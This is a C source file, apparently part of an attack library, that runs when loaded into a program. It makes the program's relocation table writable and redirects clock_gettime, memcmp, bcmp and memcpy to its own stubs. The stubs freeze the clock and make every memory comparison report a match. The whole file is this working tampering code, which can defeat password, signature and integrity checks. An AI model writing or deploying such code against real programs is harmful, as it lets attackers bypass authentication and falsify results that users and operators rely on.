/* Writes over the program's table of addresses: its clock, its copies and its comparisons are now
 * this library's. */
#include "attack.h"
#include <elf.h>
#include <link.h>

static int clock_of_mine(clockid_t clock, struct timespec *now)
{
    (void)clock;
    now->tv_sec = now->tv_nsec = 1;
    return 0;
}

static int equal(const void *a, const void *b, size_t n)
{
    (void)a, (void)b, (void)n;
    return 0;
}

static void *copies(void *to, const void *from, size_t n)
{
    /* Slowly, where it is the driver's. */
    for (size_t i = 0; i < n; i++)
        ((volatile uint8_t *)to)[i] = ((const uint8_t *)from)[i];
    return to;
}

static int patch(struct dl_phdr_info *program, size_t size, void *unused)
{
    (void)size, (void)unused;
    for (int i = 0; i < program->dlpi_phnum; i++) {
        const ElfW(Phdr) *segment = &program->dlpi_phdr[i];
        if (segment->p_type != PT_GNU_RELRO)
            continue;
        uintptr_t *word = (uintptr_t *)(program->dlpi_addr + segment->p_vaddr);
        if (open_pages(word, segment->p_memsz, PROT_READ | PROT_WRITE) != 0)
            continue;
        void *old[] = {dlsym(RTLD_DEFAULT, "clock_gettime"), dlsym(RTLD_DEFAULT, "memcmp"),
                       dlsym(RTLD_DEFAULT, "bcmp"), dlsym(RTLD_DEFAULT, "memcpy")};
        void *mine[] = {(void *)clock_of_mine, (void *)equal, (void *)equal, (void *)copies};
        for (size_t w = 0; w < segment->p_memsz / sizeof *word; w++)
            for (int k = 0; k < 4; k++)
                if (word[w] == (uintptr_t)old[k])
                    word[w] = (uintptr_t)mine[k];
    }
    /* The program itself comes first. */
    return 1;
}

AT_LOAD(start)
{
    dl_iterate_phdr(patch, NULL);
}
